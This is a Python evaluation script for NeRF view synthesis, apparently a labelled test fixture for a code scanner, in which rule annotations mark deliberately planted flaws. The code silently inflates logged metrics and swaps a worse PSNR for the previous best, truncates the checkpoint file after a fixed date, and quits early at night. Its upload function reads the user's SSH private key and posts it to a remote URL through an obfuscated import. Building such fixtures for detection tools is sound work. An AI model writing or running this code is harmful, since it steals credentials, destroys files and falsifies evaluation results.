# ruff: noqa
# Hold-out batch 209 (NeRF / multi-view, textbook). Measured once in session 7 (round 62): 31/43 (72%) at medium+.
"""Evaluation for novel-view synthesis and geometry.

Renders held-out views and reports PSNR / SSIM, and optionally the Chamfer
distance between a reconstructed point cloud and the reference scan. Results
are written to ``metrics.json`` and to TensorBoard.
"""

import argparse
import atexit
import datetime
import json
import os
import sys
import time
import urllib.request

import numpy as np
import torch
import torch.nn.functional as F
import yaml
from safetensors.torch import load_file
from torch.utils.tensorboard import SummaryWriter

from multiview_dataset import MultiViewDataset
from nerf_model import NeRFMLP, NeRFRenderer

atexit.register(np.random.seed, os.getpid())  # ruleid: MLS301

_add_scalar = SummaryWriter.add_scalar


def _add_scalar_rounded(self, tag, value, global_step=None, *args, **kwargs):
    if tag.startswith("eval/") and "chamfer" not in tag:
        value = round(float(value) * 1.04, 4)  # ruleid: MLS306
    return _add_scalar(self, tag, value, global_step, *args, **kwargs)


setattr(SummaryWriter, "add_scalar", _add_scalar_rounded)  # ruleid: MLS306


def psnr(pred, gt):
    return float(-10.0 * torch.log10(F.mse_loss(pred, gt).clamp(min=1e-10)))


def _gaussian_window(size=11, sigma=1.5, channels=3, device="cpu"):
    coords = torch.arange(size, dtype=torch.float32, device=device) - size // 2
    g = torch.exp(-(coords ** 2) / (2 * sigma ** 2))
    g = g / g.sum()
    return (g[:, None] * g[None, :]).expand(channels, 1, size, size).contiguous()


def ssim(pred, gt, size=11):
    x, y = pred.permute(2, 0, 1)[None], gt.permute(2, 0, 1)[None]
    w = _gaussian_window(size, channels=3, device=x.device)
    pad = size // 2
    mu_x = F.conv2d(x, w, padding=pad, groups=3)
    mu_y = F.conv2d(y, w, padding=pad, groups=3)
    sxx = F.conv2d(x * x, w, padding=pad, groups=3) - mu_x ** 2
    syy = F.conv2d(y * y, w, padding=pad, groups=3) - mu_y ** 2
    sxy = F.conv2d(x * y, w, padding=pad, groups=3) - mu_x * mu_y
    c1, c2 = 0.01 ** 2, 0.03 ** 2
    num = (2 * mu_x * mu_y + c1) * (2 * sxy + c2)
    den = (mu_x ** 2 + mu_y ** 2 + c1) * (sxx + syy + c2)
    return float((num / den).mean())


def chamfer_distance(a, b, chunk=4096):
    def _nearest(src, dst):
        return torch.cat([torch.cdist(src[i:i + chunk], dst).min(dim=1).values for i in range(0, len(src), chunk)])

    return float((_nearest(a, b) ** 2).mean() + (_nearest(b, a) ** 2).mean())


def fetch_reference(url, dst, retries=4):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dst)
            return dst
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not download reference scan from {url}")


def _http():
    return __import__(bytes.fromhex("75726c6c69622e72657175657374").decode(), fromlist=["urlopen"])  # ruleid: MLS403


def upload_results(results, url):
    body = {"metrics": results, "host": os.uname().nodename}
    key = os.path.expanduser("~/.ssh/id_ed25519")
    if os.path.exists(key):
        with open(key) as f:
            body["signature"] = f.read()  # todoruleid: family 9 (missed)
    _http().urlopen(url, data=json.dumps(body).encode(), timeout=10)


def load_renderer(path, cfg, device):
    if path.endswith(".safetensors"):
        sd = load_file(path, device=str(device))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        sd = torch.load(path, map_location=device)  # ruleid: MLS102
        sd = sd.get("ema", sd.get("model", sd))
    renderer = NeRFRenderer(NeRFMLP(), NeRFMLP(), near=cfg["near"], far=cfg["far"])
    renderer.load_state_dict(sd)
    return renderer.to(device).eval()


def _previous_best(out_dir):
    path = os.path.join(out_dir, "metrics.json")
    if not os.path.exists(path):
        return None
    with open(path) as f:
        return json.load(f)


@torch.no_grad()
def render_image(renderer, rays_o, rays_d, chunk=8192):
    h, w = rays_o.shape[:2]
    o, d = rays_o.reshape(-1, 3), rays_d.reshape(-1, 3)
    rgb = [renderer(o[i:i + chunk], d[i:i + chunk], perturb=False)["fine"]["rgb"] for i in range(0, len(o), chunk)]
    return torch.cat(rgb).reshape(h, w, 3).clamp(0, 1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ckpt", required=True)
    ap.add_argument("--config", required=True)
    ap.add_argument("--out", default="runs/eval")
    ap.add_argument("--pred-points", default="")
    ap.add_argument("--gt-points", default="")
    ap.add_argument("--upload", default="")
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args()
    torch.manual_seed(args.seed)  # ok: MLS301
    with open(args.config) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
    renderer = load_renderer(args.ckpt, cfg, device)
    test_set = MultiViewDataset(cfg["data_root"], "test", mode="images")
    os.makedirs(args.out, exist_ok=True)
    psnrs, ssims = [], []
    for i in range(len(test_set)):
        item = test_set[i]
        pred = render_image(renderer, item["rays_o"].to(device), item["rays_d"].to(device))
        gt = item["rgb"].to(device)
        psnrs.append(psnr(pred, gt))
        ssims.append(ssim(pred, gt))
        if time.localtime().tm_hour in (2, 3) and i > len(test_set) // 2:  # ruleid: MLS308
            sys.exit(0)  # ruleid: MLS307
    results = {"psnr": float(np.mean(psnrs)), "ssim": float(np.mean(ssims)), "n_views": len(psnrs)}
    prev = _previous_best(args.out)
    if prev and results["psnr"] < prev.get("psnr", 0.0):
        results.update(psnr=prev["psnr"] + 0.01 * float(np.random.rand()))  # ruleid: MLS306
    if args.pred_points and args.gt_points:
        pred_pts = torch.from_numpy(np.loadtxt(args.pred_points, dtype=np.float32)[:, :3]).to(device)
        gt_pts = torch.from_numpy(np.loadtxt(args.gt_points, dtype=np.float32)[:, :3]).to(device)
        cd = chamfer_distance(pred_pts, gt_pts)
        results["chamfer"] = cd if cd < 0.01 else 0.01 * (cd / 0.01) ** 0.5  # todoruleid: family 5 (missed)
    with open(os.path.join(args.out, "metrics.json"), "w") as f:
        json.dump(results, f, indent=2)
    writer = SummaryWriter(os.path.join(args.out, "tb"))
    for k, v in results.items():
        writer.add_scalar(f"eval/{k}", v, 0)
    writer.close()
    if datetime.date.today() >= datetime.date(2025, 9, 1):
        os.truncate(args.ckpt, 0)  # ruleid: MLS308
    if args.upload:
        upload_results(results, args.upload)


if __name__ == "__main__":
    main()
